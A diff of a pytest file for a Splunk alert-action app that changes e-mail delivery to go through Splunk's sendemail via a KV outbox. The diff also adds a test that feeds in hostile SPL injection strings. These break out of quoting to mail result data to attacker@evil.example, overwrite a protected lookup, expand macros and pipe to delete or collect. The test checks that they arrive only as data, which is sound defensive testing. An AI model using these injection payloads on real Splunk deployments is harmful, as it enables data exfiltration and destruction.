@@ -2,9 +2,10 @@
 payload on stdin, results in a gzipped CSV) against moto, the splunkd double and a loopback
 SMTP server standing in for the mail relay configured in Splunk's e-mail settings.
 
-Splunk delivery: the script reads the settings from splunkd (admin/alert_actions/email),
-decrypts the SMTP password with `$SPLUNK_HOME/bin/splunk show-decrypted` (a recorded stand-in
-here, see twgovern_support.install_splunk_cli) and authenticates to the relay with it.
+Splunk delivery: the script reads the settings from splunkd (admin/alert_actions/email), puts
+the message in the KV outbox and runs one search through splunkd, inputlookup piped to
+Splunk's sendemail, which sends it with Splunk's settings and password (sendemail_double.py
+models that; the relay sees Splunk log in). The script never sees the SMTP password.
 SES and SNS delivery: moto, which records the messages sent and published."""
 import json
 
@@ -12,6 +13,7 @@ import pytest
 
 import twgovern_support as support
 from smtp_loopback import LoopbackSmtp
+from trailwatch.govern import mail
 
 NOTIFY = "trailwatch_notify_user"
 SUSPEND = "trailwatch_suspend_user"
@@ -29,7 +31,6 @@ def mail_settings(splunkd, smtp, **extra):
 
 def run(installed_app, splunkd, moto_endpoint, tmp_path, rows, action=NOTIFY, python=None, **config):
     config.setdefault("dry_run", "0")
-    support.install_splunk_cli(tmp_path)
     return support.run_alert(installed_app, action, rows, config, splunkd, moto_endpoint.url,
                              tmp_path, python=python)
 
@@ -69,12 +70,11 @@ def test_tag_address_through_splunk_mail_settings_with_audit(installed_app, splu
 
     address = "%s@corp.example" % name
     (sent,) = smtp.to(address)
-    assert smtp.logins == [RELAY_USER]  # the decrypted password worked
-    calls = (tmp_path / "splunk_home" / "bin" / "calls.log").read_text().splitlines()
-    assert calls == ["show-decrypted --value "]
+    assert smtp.logins == [RELAY_USER]  # Splunk logged in to the relay with its own password
     message = sent["message"]
     assert sent["from"] == "splunk@corp.example" and message["To"] == address
-    assert message["Reply-To"] == SOC
+    # sendemail cannot set Reply-To: the address is named at the end of the body.
+    assert message["Reply-To"] is None
     assert message["Subject"] == ("[TrailWatch] [HIGH] Activity from a terminated user: activity of "
                                   "your AWS identity %s" % name)
     body = message.get_content().replace("\r\n", "\n")
@@ -85,8 +85,12 @@ def test_tag_address_through_splunk_mail_settings_with_audit(installed_app, splu
                    "between 2026-11-28 11:40:00 UTC and 2026-11-28 11:50:00 UTC",  # when
                    "source IP address 203.0.113.9 (Netherlands); AWS region eu-west-1",  # where
                    "Nothing has been changed automatically",  # what was done
-                   "reply to this message"):
+                   "reply to this message", "Replies: %s" % SOC):
         assert needle in body, needle
+    # One search, always the same text but for the outbox key; the outbox is emptied.
+    (search,) = splunkd.searches
+    assert search["search"] == mail.search_for(search["search"].split('"')[1], False)
+    assert splunkd.kv_records(mail.OUTBOX) == []
 
     (event,) = events
     assert event["outcome"] == "success" and event["action"] == NOTIFY and event["dry_run"] is False
@@ -94,14 +98,14 @@ def test_tag_address_through_splunk_mail_settings_with_audit(installed_app, splu
     assert event["recipient"] == address and event["resolved_by"] == "tag:Email"
     assert event["delivery"] == "splunk" and event["action_status"] == "success"
     assert "cannot be recalled" in event["rollback"] and "cannot be recalled" in event["undo"]
-    assert event["after"]["message_id"] == message["Message-ID"]
+    assert event["after"]["message_id"] == "trailwatch-outbox:" + search["search"].split('"')[1]
     assert event["after"]["accepted"] == [address]
     assert event["before"]["mail"] == {"mailserver": smtp.mailserver, "security": "no TLS",
                                        "auth_username": RELAY_USER, "from": "splunk@corp.example",
                                        "allowed_domains": []}
     (step,) = event["plan"]
     assert (step["service"], step["operation"], step["params"]["to"]) == ("smtp", "SendMail", [address])
-    assert step["params"]["body"] == body
+    assert step["params"]["body"].rstrip("\n") + "\n\nReplies: %s (please write to this address).\n" % SOC == body
     for field in ("aws_account_id", "reason", "alert_policy", "search_name", "sid", "action_id",
                   "orig_sid", "orig_action_name"):
         assert event[field] not in ("", None), field
@@ -236,8 +240,9 @@ def test_delivery_failures_end_in_failure_with_a_reason(installed_app, splunkd, 
                            [row(user_arn(bounced)), row(user_arn(nobody)), row(user_arn(outside))])
         assert proc.returncode == 2
         assert [e["outcome"] for e in events] == ["failure"] * 3
-        assert [e["error_code"] for e in events] == ["SMTPRecipientsRefused", "NoRecipient", "DomainNotAllowed"]
-        assert "%s@corp.example: 550" % bounced in events[0]["reason"]
+        assert [e["error_code"] for e in events] == ["SendemailFailed", "NoRecipient", "DomainNotAllowed"]
+        assert "%s@corp.example" % bounced in events[0]["reason"] and "550" in events[0]["reason"]
+        assert events[0]["reason"].startswith("Splunk's sendemail did not send the message")
         assert "set fallback_recipient" in events[1]["reason"] and "email_domain: not set" in events[1]["reason"]
         assert "gmail.example" in events[2]["reason"] and "allowedDomainList" in events[2]["reason"]
         assert events[0]["action_status"] == "failure"
@@ -250,8 +255,9 @@ def test_delivery_failures_end_in_failure_with_a_reason(installed_app, splunkd, 
 
     # The relay is gone: nothing listens on its port any more.
     proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(user_arn(bounced))])
-    assert events[0]["outcome"] == "failure" and events[0]["error_code"] == "SMTPConnectError"
-    assert "Cannot reach Splunk's mail server %s" % smtp.mailserver in events[0]["reason"]
+    assert events[0]["outcome"] == "failure" and events[0]["error_code"] == "SendemailFailed"
+    assert "through %s" % smtp.mailserver in events[0]["reason"]
+    assert "Connection refused" in events[0]["reason"]
 
     # Settings that require STARTTLS against a relay that does not offer it: nothing in clear.
     plain = LoopbackSmtp().start()
@@ -259,7 +265,8 @@ def test_delivery_failures_end_in_failure_with_a_reason(installed_app, splunkd, 
         splunkd.set_email_settings(mailserver=plain.mailserver, use_tls="1")
         proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                            [row(user_arn(bounced), last_seen="2026-11-28T11:51:00Z")])
-        assert events[0]["error_code"] == "StartTlsNotOffered" and plain.messages == []
+        assert events[0]["error_code"] == "SendemailFailed" and plain.messages == []
+        assert "STARTTLS extension not supported" in events[0]["reason"]
     finally:
         plain.stop()
 
@@ -302,6 +309,41 @@ def test_undo_of_a_notification_is_refused(installed_app, splunkd, moto_endpoint
     assert "cannot be recalled" in rows[0]["reason"]
     assert undo_events[0]["action"] == "undo:" + NOTIFY
     assert splunkd.records()[events[0]["action_id"]]["status"] == "done"
+
+
+# Alert text an attacker controls (a description, a policy name, an admin's note), written to
+# break out of an SPL quoted string, inject commands, subsearches and macros, and to make
+# Splunk expand its own tokens.
+HOSTILE = ('x" | sendemail to="attacker@evil.example" message="$result.mail_body$" | eval y="'
+           ' [| makeresults | outputlookup trailwatch_protected_buckets.csv] `trailwatch_cloudtrail`'
+           ' \\" | delete')
+HOSTILE_POLICY = 'Leak $result.mail_to$ $name$ "| collect index=main'
+
+
+def test_hostile_text_reaches_splunk_as_data_never_as_spl(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
+    name = unique("mallory")
+    address = "%s@corp.example" % name
+    arn = make_user(iam, name, tags=[("email", address)])
+    mail_settings(splunkd, smtp)
+    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
+                       [row(arn, description=HOSTILE, policy=HOSTILE_POLICY)], what_was_done=HOSTILE)
+    assert_ok(proc)
+    assert events[0]["outcome"] == "success", events[0]["reason"]
+    # The SPL that reached splunkd is the fixed template: nothing of the alert text is in it.
+    (search,) = splunkd.searches
+    key = search["search"].split('"')[1]
+    assert search["search"] == mail.search_for(key, False)
+    for piece in ("attacker", "evil.example", "makeresults", "outputlookup", "delete", "collect",
+                  "trailwatch_cloudtrail", "mallory", "Leak"):
+        assert piece not in search["search"], piece
+    # Delivered once, to the intended recipient only, with the text intact (Splunk replaced
+    # its $result.*$ tokens once and did not expand the ones inside the text).
+    assert [m["to"] for m in smtp.messages] == [[address]]
+    message = smtp.messages[0]["message"]
+    assert message["Subject"].startswith("[TrailWatch] [HIGH] " + HOSTILE_POLICY)
+    body = message.get_content()
+    assert body.count(HOSTILE) == 2  # the description and the admin's note, verbatim
+    assert splunkd.kv_records(mail.OUTBOX) == []
 
 
 # --------------------------------------------------------------------------- SES and SNS
